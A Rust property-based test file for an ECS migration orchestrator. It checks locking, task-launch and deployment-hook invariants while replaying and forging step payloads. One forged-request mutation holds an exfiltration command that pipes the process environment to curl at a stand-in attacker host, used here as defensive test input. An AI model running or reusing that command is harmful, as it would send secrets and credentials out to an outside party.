//! Issue 18's property: random interleavings of legitimate executions of the real definition
//! (in the engine, over the fake ECS, the in-memory lock table, an in-memory Step Functions and
//! the deployment double) and direct invocations of the step functions with payloads that are
//! mutations of real ones: replayed states, other executions' ids, forged commands, containers,
//! clusters, tasks, holders and actions, forged status-change events, one step's payload sent
//! to another.
//!
//! The doubles check the invariants at the moment of each write, and the harness again after
//! every step:
//! - never two live (not STOPPED) tasks in the one lock scope;
//! - no task started with another command than MIGRATION_COMMAND, or in another container or
//!   cluster than the settings';
//! - no CONTINUE answered to the hook without ECS showing a task of an execution started for
//!   that hook STOPPED, its migration container's exit code 0, and no outside stop;
//! - no lock released (deleted or taken over) while its holder is RUNNING and the task it
//!   records is not STOPPED;
//! - no lock taken, renewed or given a task for an execution that is not RUNNING (a finished
//!   execution's lock would otherwise be kept alive for ever);
//! - no RUNNING execution's migration stopped by stop-task's state-data path unless the
//!   execution is in its StopTask state (a live migration ended early rolls the deployment back).
//!
//! Where the fake is kinder than ECS: a task stopped by StopTask exits 143 in the fake, while a
//! migration tool may trap SIGTERM and exit 0. [`Guarded`] turns that exit into 0 in the cases
//! that ask for it (`trap_sigterm`), so the outside-stop rule is exercised.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use ecs_migrate::asl::{ExecutionStatus, Executor, TaskCall, TaskFailure, TaskInvoker};
use ecs_migrate::common::clock::{Clock, VirtualClock};
use ecs_migrate::migration::settings::Settings;
use ecs_migrate::migration::steps::StepEnv;
use ecs_migrate::migration::tasks::started_by_for_execution;
use ecs_migrate::ports::deployments::{
    Deployments, HookAction, MemoryDeployments, ServiceDeployment, ServiceRevision,
};
use ecs_migrate::ports::ecs::{
    DesiredStatus, Ecs, LastStatus, RunTaskOutcome, RunTaskParams, TaskDefinition, TaskLookup,
};
use ecs_migrate::ports::executions::{Executions, MemoryExecutions};
use ecs_migrate::ports::lock::{Expected, LockError, LockItem, LockTable, MemoryLockTable};
use ecs_migrate::ports::logs::{LogStream, Logs};
use ecs_migrate::ports::AwsError;
use ecs_migrate::statemachine::{lambda_error, Step};
use futures::future::join_all;
use proptest::prelude::*;
use serde_json::{json, Value};

use crate::fake_ecs::{FakeEcs, Script, CONTAINER};
use crate::fixtures::{
    hook_event, settings_with, t0, CLUSTER, DEPLOYMENT_ARN, HOOK_ID, REVISION_ARN, SERVICE_ARN,
    STATE_MACHINE_ARN,
};
use crate::hooks::paused_deployment;
use crate::scenarios::{bare, definition, function_arns};

/// Stop codes of a task stopped by someone else than its container (issue 18: never CONTINUE).
const OUTSIDE_STOPS: [&str; 4] = [
    "UserInitiated",
    "SpotInterruption",
    "ServiceSchedulerInitiated",
    "TerminationNotice",
];

fn execution_arn(name: &str) -> String {
    format!("arn:aws:states:eu-west-1:123456789012:execution:ecs-migrate:{name}")
}

/// The world every execution and every attack acts on, with the invariants' checks in front
/// of its ECS, lock table and deployments.
struct Guarded {
    clock: Arc<VirtualClock>,
    fake: Arc<FakeEcs>,
    lock: MemoryLockTable,
    executions: MemoryExecutions,
    deployments: Arc<MemoryDeployments>,
    settings: Settings,
    /// The migration tool traps SIGTERM and exits 0 after a stop from outside.
    trap_sigterm: bool,
    /// `startedBy` of the executions started for the hook.
    hook_started_by: Mutex<Vec<String>>,
    /// Every Task state's input, as the definition built it: what attacks mutate.
    payloads: Mutex<Vec<(Step, Value)>>,
    violations: Mutex<Vec<String>>,
    /// Invocations of steps, legitimate and forged.
    invocations: Mutex<(usize, usize)>,
}

impl Guarded {
    fn new(script: Script, trap_sigterm: bool) -> Arc<Self> {
        let clock = Arc::new(VirtualClock::starting_at(t0()));
        Arc::new(Self {
            fake: FakeEcs::new(clock.clone(), script),
            deployments: paused_deployment(clock.clone(), 24 * 3600),
            clock,
            lock: MemoryLockTable::new(),
            executions: MemoryExecutions::new(),
            settings: settings_with(&[
                ("DEPLOYMENT_SERVICES", "[\"app\"]"),
                ("LOCK_LEASE_SECONDS", "300"),
                ("LOCK_WAIT_SECONDS", "7200"),
                ("MAX_DURATION_SECONDS", "3600"),
            ]),
            trap_sigterm,
            hook_started_by: Mutex::default(),
            payloads: Mutex::default(),
            violations: Mutex::default(),
            invocations: Mutex::default(),
        })
    }

    fn env(&self) -> StepEnv<'_> {
        StepEnv {
            settings: &self.settings,
            ecs: self,
            logs: self,
            clock: self.clock.as_ref(),
            lock: self,
            deployments: self,
            executions: &self.executions,
        }
    }

    fn violation(&self, what: String) {
        self.violations.lock().unwrap().push(what);
    }

    fn violations(&self) -> Vec<String> {
        self.violations.lock().unwrap().clone()
    }

    /// Runs `step` as its function would, then checks the tasks' lives.
    async fn invoke(&self, step: Step, input: Value) -> Result<Value, TaskFailure> {
        let answer = step.run(&self.env(), input, None).await;
        self.check_lives();
        answer.map_err(|err| lambda_error(&err))
    }

    /// Never two tasks unstopped at once: no task's life (RunTask to STOPPED) overlaps
    /// another's.
    fn check_lives(&self) {
        let mut lives = self.fake.task_lives();
        lives.sort_by_key(|(_, run_at, _)| *run_at);
        for pair in lives.windows(2) {
            let (first, _, stopped) = &pair[0];
            let (second, started, _) = &pair[1];
            if stopped.is_none_or(|stopped| stopped > *started) {
                self.violation(format!(
                    "two live tasks: {second} started at {started} while {first} ran (until {stopped:?})"
                ));
            }
        }
    }

    fn task_stopped(&self, task_arn: &str) -> bool {
        self.fake.stopped_at(task_arn).is_some()
    }

    async fn is_running(&self, execution: &str) -> bool {
        self.executions
            .describe(execution)
            .await
            .is_ok_and(|view| view.status == "RUNNING")
    }

    async fn check_holder_runs(&self, holder: &str, what: &str) {
        if !self.is_running(holder).await {
            self.violation(format!("lock {what} for {holder}, which is not RUNNING"));
        }
    }

    /// A lock that went away (released or taken over) from `before`.
    async fn check_release(&self, before: Option<LockItem>) {
        let Some(item) = before else { return };
        let Some(task) = item.task_arn.as_deref() else {
            return;
        };
        if self.is_running(&item.holder).await && !self.task_stopped(task) {
            self.violation(format!(
                "lock {} released while its holder {} is RUNNING and its task {task} is not STOPPED",
                item.scope, item.holder
            ));
        }
    }

    /// stop-task's stop for a failed execution (reason `ecs-migrate: execution NAME failed...`)
    /// of a RUNNING execution comes only from that execution's own StopTask state.
    async fn check_stop_of_live_migration(&self, reason: &str) {
        let Some(name) = reason
            .strip_prefix("ecs-migrate: execution ")
            .and_then(|rest| rest.split_once(" failed"))
            .map(|(name, _)| name)
        else {
            return;
        };
        let arn = execution_arn(name);
        let state = self
            .executions
            .current_state(&arn, 100)
            .await
            .ok()
            .flatten();
        if self.is_running(&arn).await && state.as_deref() != Some("StopTask") {
            self.violation(format!(
                "the live migration of {arn} stopped while it is in {state:?}, not in StopTask"
            ));
        }
    }

    /// ECS shows a task of an execution started for the hook STOPPED by its own exit 0.
    async fn continue_evidence(&self) -> bool {
        let started_by = self.hook_started_by.lock().unwrap().clone();
        for (task_arn, _, _) in self.fake.task_lives() {
            let Ok(TaskLookup::Found(task)) = self.describe_task(CLUSTER, &task_arn).await else {
                continue;
            };
            let exit = task
                .containers
                .iter()
                .find(|c| c.name == CONTAINER)
                .and_then(|c| c.exit_code);
            let outside = task
                .stop_code
                .as_deref()
                .is_some_and(|code| OUTSIDE_STOPS.contains(&code));
            if task.last_status == LastStatus::Stopped
                && exit == Some(0)
                && !outside
                && task
                    .started_by
                    .as_ref()
                    .is_some_and(|s| started_by.contains(s))
            {
                return true;
            }
        }
        false
    }
}

#[async_trait]
impl Ecs for Guarded {
    async fn describe_task_definition(
        &self,
        task_definition: &str,
    ) -> Result<Option<TaskDefinition>, AwsError> {
        self.fake.describe_task_definition(task_definition).await
    }

    async fn run_task(&self, params: &RunTaskParams) -> Result<RunTaskOutcome, AwsError> {
        let settings = &self.settings;
        if params.command != settings.command
            || params.container != settings.container
            || params.cluster != settings.cluster
        {
            self.violation(format!(
                "RunTask with command {:?} in container {} of cluster {}",
                params.command, params.container, params.cluster
            ));
        }
        let outcome = self.fake.run_task(params).await;
        self.check_lives();
        outcome
    }

    async fn describe_task(&self, cluster: &str, task_arn: &str) -> Result<TaskLookup, AwsError> {
        let mut lookup = self.fake.describe_task(cluster, task_arn).await?;
        if let TaskLookup::Found(task) = &mut lookup {
            let stopped_outside = task
                .stop_code
                .as_deref()
                .is_some_and(|code| OUTSIDE_STOPS.contains(&code));
            if self.trap_sigterm && stopped_outside {
                for container in &mut task.containers {
                    if container.exit_code == Some(143) {
                        container.exit_code = Some(0);
                    }
                }
            }
        }
        Ok(lookup)
    }

    async fn stop_task(&self, cluster: &str, task_arn: &str, reason: &str) -> Result<(), AwsError> {
        self.check_stop_of_live_migration(reason).await;
        self.fake.stop_task(cluster, task_arn, reason).await
    }

    async fn list_tasks(
        &self,
        cluster: &str,
        started_by: &str,
        desired: DesiredStatus,
    ) -> Result<Vec<String>, AwsError> {
        self.fake.list_tasks(cluster, started_by, desired).await
    }
}

#[async_trait]
impl Logs for Guarded {
    async fn tail(
        &self,
        stream: &LogStream,
        lines: usize,
    ) -> Result<Option<Vec<String>>, AwsError> {
        self.fake.tail(stream, lines).await
    }
}

#[async_trait]
impl LockTable for Guarded {
    async fn get(&self, scope: &str) -> Result<Option<LockItem>, LockError> {
        self.lock.get(scope).await
    }

    async fn put(&self, item: &LockItem, expected: Expected<'_>) -> Result<bool, LockError> {
        self.check_holder_runs(&item.holder, "taken").await;
        let before = self.lock.get(&item.scope).await?;
        let written = self.lock.put(item, expected).await?;
        if written && matches!(expected, Expected::Expired { .. }) {
            self.check_release(before).await;
        }
        Ok(written)
    }

    async fn renew(
        &self,
        scope: &str,
        holder: &str,
        lease_until: DateTime<Utc>,
        task_arn: Option<&str>,
    ) -> Result<bool, LockError> {
        self.check_holder_runs(holder, "renewed").await;
        self.lock.renew(scope, holder, lease_until, task_arn).await
    }

    async fn release(&self, scope: &str, holder: &str) -> Result<bool, LockError> {
        let before = self.lock.get(scope).await?;
        let released = self.lock.release(scope, holder).await?;
        if released {
            self.check_release(before).await;
        }
        Ok(released)
    }
}

#[async_trait]
impl Deployments for Guarded {
    async fn describe_deployment(&self, arn: &str) -> Result<Option<ServiceDeployment>, AwsError> {
        self.deployments.describe_deployment(arn).await
    }

    async fn describe_revision(&self, arn: &str) -> Result<Option<ServiceRevision>, AwsError> {
        self.deployments.describe_revision(arn).await
    }

    async fn continue_deployment(
        &self,
        arn: &str,
        hook_id: &str,
        action: HookAction,
    ) -> Result<(), AwsError> {
        self.deployments
            .continue_deployment(arn, hook_id, action)
            .await?;
        if action == HookAction::Continue && !self.continue_evidence().await {
            self.violation(format!(
                "CONTINUE answered to hook {hook_id} without ECS showing a migration that exited 0 by itself"
            ));
        }
        Ok(())
    }
}

/// The definition's Task states of the execution (ARN) it names, bound to the steps over the
/// guarded world; each input is kept for the attacks to mutate.
struct Legit(Arc<Guarded>, String);

#[async_trait]
impl TaskInvoker for Legit {
    async fn invoke(&self, call: TaskCall) -> Result<Value, TaskFailure> {
        let Some(step) = function_arns().step_for(&call.resource) else {
            return Err(TaskFailure::unbound(call.resource));
        };
        let world = &self.0;
        // The execution's history shows the Task state that invokes the function.
        world.executions.enter_state(&self.1, &call.state_name);
        world.invocations.lock().unwrap().0 += 1;
        world
            .payloads
            .lock()
            .unwrap()
            .push((step, call.input.clone()));
        world.invoke(step, call.input).await
    }
}

/// What a legitimate execution is started with.
#[derive(Debug, Clone, Copy)]
enum Input {
    /// A migration started by hand or by CI.
    Plain,
    /// The deployment's pause hook (every such execution is one of the same hook).
    Hook,
}

/// One legitimate execution: when it starts, with what, and whether someone aborts it (and
/// when, in seconds after its start).
#[derive(Debug, Clone)]
struct Start {
    at: u64,
    input: Input,
    abort_after: Option<u64>,
}

/// How an attack changes a recorded payload.
#[derive(Debug, Clone)]
enum Mutation {
    /// Sent as it was (a replay).
    Replay,
    /// Its `execution_id` becomes another execution's (or one of no execution, or of another
    /// state machine).
    ExecutionId(usize),
    /// The request's command, container, cluster, `startedBy`, client token or execution is
    /// forged.
    Request(usize),
    /// Its task becomes another task's.
    Task(usize),
    /// Its lock says another execution holds it, or that it was released.
    Lock(usize),
    /// Its lock and task are gone.
    DropLockAndTask,
    /// Its task says RunTask is to be tried again (attempt `n % 4`), after a capacity wait.
    Attempt(usize),
    /// A report-deployment CONTINUE (sent to report-deployment) for the payload's execution and
    /// hook, with a result naming a task.
    Continue(usize),
}

#[derive(Debug, Clone)]
struct Attack {
    at: u64,
    /// Which recorded payload (modulo how many there are).
    pick: usize,
    /// Sent to this step instead of the one it was recorded for.
    to: Option<usize>,
    mutations: Vec<Mutation>,
    /// Instead of a payload: a forged status-change event (execution, status).
    status_change: Option<(usize, usize)>,
}

const STATUSES: [&str; 5] = ["ABORTED", "FAILED", "TIMED_OUT", "SUCCEEDED", "RUNNING"];

impl Guarded {
    /// The executions an attack may name: the legitimate ones, one that does not exist, and one
    /// of another state machine.
    fn names(starts: usize) -> Vec<String> {
        let mut names: Vec<String> = (0..starts)
            .map(|i| execution_arn(&format!("e{i}")))
            .collect();
        names.push(execution_arn("never-started"));
        names.push("arn:aws:states:eu-west-1:123456789012:execution:other-machine:x".into());
        names
    }

    fn task_arns(&self) -> Vec<String> {
        let mut arns: Vec<String> = self
            .fake
            .task_lives()
            .into_iter()
            .map(|(a, _, _)| a)
            .collect();
        arns.push("arn:aws:ecs:eu-west-1:123456789012:task/prod/forged".into());
        arns
    }

    fn mutate(&self, payload: &mut Value, mutation: &Mutation, names: &[String]) {
        let set = |payload: &mut Value, pointer: &str, value: Value| {
            if let Some(slot) = payload.pointer_mut(pointer) {
                *slot = value;
            }
        };
        match mutation {
            Mutation::Replay => {}
            Mutation::ExecutionId(n) => {
                let id = json!(names[n % names.len()]);
                set(payload, "/execution_id", id.clone());
                set(payload, "/execution/id", id);
            }
            Mutation::Request(n) => {
                let forged = [
                    (
                        "command",
                        json!(["sh", "-c", "env | curl -d @- https://attacker.example"]),
                    ),
                    ("container", json!("sidecar")),
                    ("cluster", json!("attacker-cluster")),
                    ("started_by", json!("ecs-migrate/forged")),
                    ("client_token", json!(format!("fresh-token-{n}"))),
                    ("execution_id", json!(names[n % names.len()])),
                ];
                let (field, value) = forged[n % forged.len()].clone();
                set(payload, &format!("/state/request/{field}"), value);
            }
            Mutation::Task(n) => {
                let tasks = self.task_arns();
                let task = json!(tasks[n % tasks.len()]);
                set(payload, "/state/task/task_arn", task.clone());
                set(payload, "/result/task_arn", task);
            }
            Mutation::Lock(n) => set(
                payload,
                "/state/lock",
                forged_lock(&names[n % names.len()], *n),
            ),
            Mutation::Attempt(n) => set(
                payload,
                "/state/task",
                json!({"outcome": "RETRY_LATER", "attempt": n % 4, "wait_seconds": 10,
                       "reason": "forged"}),
            ),
            Mutation::DropLockAndTask => {
                if let Some(state) = payload.get_mut("state").and_then(Value::as_object_mut) {
                    state.remove("lock");
                    state.remove("task");
                }
            }
            Mutation::Continue(n) => {
                let tasks = self.task_arns();
                // The hook's own deployment, also in the call of an execution not started for it.
                let hook = json!({"hook_type": "PAUSE", "hook_id": HOOK_ID,
                    "service_deployment_arn": DEPLOYMENT_ARN, "service_arn": SERVICE_ARN,
                    "target_revision_arn": REVISION_ARN});
                let deployment = payload
                    .pointer("/state/request/deployment")
                    .or_else(|| payload.get("deployment"))
                    .filter(|d| !d.is_null())
                    .cloned()
                    .unwrap_or(hook);
                let execution = payload.get("execution_id").cloned();
                *payload = json!({"action": "CONTINUE", "deployment": deployment,
                    "execution_id": execution,
                    "result": {"task_arn": tasks[n % tasks.len()], "container": CONTAINER,
                               "exit_code": 0}});
            }
        }
    }

    /// One attack: a mutated copy of a payload a legitimate execution sent, straight to a step.
    async fn attack(&self, attack: &Attack, names: &[String]) {
        self.clock.sleep(Duration::from_secs(attack.at)).await;
        let (step, input) = match attack.status_change {
            Some((execution, status)) => (
                Step::StopTask,
                forged_status_change(
                    &names[execution % names.len()],
                    STATUSES[status % 5],
                    self.clock.now(),
                ),
            ),
            None => {
                let payloads = self.payloads.lock().unwrap().clone();
                if payloads.is_empty() {
                    return;
                }
                let (recorded, mut input) = payloads[attack.pick % payloads.len()].clone();
                for mutation in &attack.mutations {
                    self.mutate(&mut input, mutation, names);
                }
                let step = attack
                    .to
                    .map_or(recorded, |n| Step::ALL[n % Step::ALL.len()]);
                let continues = |m: &Mutation| matches!(m, Mutation::Continue(_));
                let step = match attack.mutations.iter().any(continues) {
                    true => Step::ReportDeployment,
                    false => step,
                };
                (step, input)
            }
        };
        self.invocations.lock().unwrap().1 += 1;
        // Refusals are the expected answer; what matters is what the world holds afterwards.
        let _ = self.invoke(step, input).await;
    }

    /// One legitimate execution of the definition, then (when it ended badly) the
    /// status-change rule's stop-task with the real status.
    async fn execute(self: &Arc<Self>, n: usize, start: &Start) {
        self.clock.sleep(Duration::from_secs(start.at)).await;
        let name = format!("e{n}");
        let arn = execution_arn(&name);
        let input = match start.input {
            Input::Plain => bare(),
            Input::Hook => {
                self.hook_started_by
                    .lock()
                    .unwrap()
                    .push(started_by_for_execution(&arn));
                hook_event(&format!("delivery-{n}"))
            }
        };
        self.executions
            .put_with_input(&arn, STATE_MACHINE_ARN, "RUNNING", Some(input.to_string()));
        let executor = Executor::new(
            definition(),
            Arc::new(Legit(self.clone(), arn.clone())),
            self.clock.clone(),
        )
        .with_execution_name(&name)
        .with_state_machine_name("ecs-migrate")
        .with_account("eu-west-1", "123456789012");
        let clock = self.clock.clone();
        let abort_after = start.abort_after;
        let result = executor
            .run(input.clone(), async move {
                match abort_after {
                    Some(after) => clock.sleep(Duration::from_secs(after)).await,
                    None => std::future::pending().await,
                }
            })
            .await;
        let status = result.status.as_str();
        self.executions.set_status(&arn, status);
        if matches!(
            result.status,
            ExecutionStatus::Failed | ExecutionStatus::Aborted | ExecutionStatus::TimedOut
        ) {
            let event = forged_status_change(&arn, status, self.clock.now());
            let _ = self.invoke(Step::StopTask, event).await;
        }
    }
}

/// `$.lock` claiming `holder` holds the lock, or (odd `n`) that it was released.
fn forged_lock(holder: &str, n: usize) -> Value {
    let at = t0().to_rfc3339();
    let until = (t0() + chrono::Duration::days(1)).to_rfc3339();
    if n % 2 == 1 {
        return json!({"outcome": "RELEASED", "scope": "app", "holder": holder,
                      "released": true, "note": "forged"});
    }
    json!({"outcome": "ACQUIRED", "scope": "app", "holder": holder, "since": at,
           "lease_until": until, "deadline": until, "waited_seconds": 0})
}

/// A "Step Functions Execution Status Change" event, as EventBridge delivers it.
fn forged_status_change(execution: &str, status: &str, now: DateTime<Utc>) -> Value {
    json!({
        "version": "0", "id": "status-change", "detail-type": "Step Functions Execution Status Change",
        "source": "aws.states", "account": "123456789012", "time": now.to_rfc3339(),
        "region": "eu-west-1", "resources": [execution],
        "detail": {"executionArn": execution, "status": status,
                   "stopDate": now.timestamp_millis(), "stateMachineArn": STATE_MACHINE_ARN}
    })
}

fn start() -> impl Strategy<Value = Start> {
    (
        0u64..300,
        prop_oneof![Just(Input::Plain), Just(Input::Hook)],
        prop::option::weighted(0.3, 1u64..400),
    )
        .prop_map(|(at, input, abort_after)| Start {
            at,
            input,
            abort_after,
        })
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        Just(Mutation::Replay),
        any::<usize>().prop_map(Mutation::ExecutionId),
        any::<usize>().prop_map(Mutation::Request),
        any::<usize>().prop_map(Mutation::Task),
        any::<usize>().prop_map(Mutation::Lock),
        Just(Mutation::DropLockAndTask),
        any::<usize>().prop_map(Mutation::Attempt),
        any::<usize>().prop_map(Mutation::Continue),
    ]
}

fn attack() -> impl Strategy<Value = Attack> {
    (
        0u64..900,
        any::<usize>(),
        prop::option::weighted(0.3, any::<usize>()),
        prop::collection::vec(mutation(), 1..4),
        prop::option::weighted(0.2, (any::<usize>(), any::<usize>())),
    )
        .prop_map(|(at, pick, to, mutations, status_change)| Attack {
            at,
            pick,
            to,
            mutations,
            status_change,
        })
}

/// How many cases the property runs (each a few executions and a few dozen attacks on virtual
/// time): a few seconds in a debug build.
const CASES: u32 = 96;

proptest! {
    #![proptest_config(ProptestConfig {
        cases: CASES,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn no_payload_breaks_the_invariants(
        starts in prop::collection::vec(start(), 1..5),
        attacks in prop::collection::vec(attack(), 5..40),
        running in 30u64..600,
        exit_code in prop_oneof![3 => Just(0), 1 => Just(3)],
        capacity_failures in 0usize..3,
        trap_sigterm in any::<bool>(),
    ) {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let world = Guarded::new(
            Script { running, exit_code, capacity_failures, stop_delay: 20, ..Script::default() },
            trap_sigterm,
        );
        let names = Guarded::names(starts.len());
        runtime.block_on(async {
            let legit = starts.iter().enumerate().map(|(n, s)| {
                let world = world.clone();
                async move { world.execute(n, s).await }
            });
            let forged = attacks.iter().map(|a| world.attack(a, &names));
            futures::join!(join_all(legit), join_all(forged));
            // Past every lease and task: the settled world holds no live task.
            world.clock.sleep(Duration::from_secs(3600)).await;
        });
        world.check_lives();
        prop_assert_eq!(world.violations(), Vec::<String>::new());
        let (legit, forged) = *world.invocations.lock().unwrap();
        prop_assert!(legit > 0 && forged <= attacks.len());
    }
}
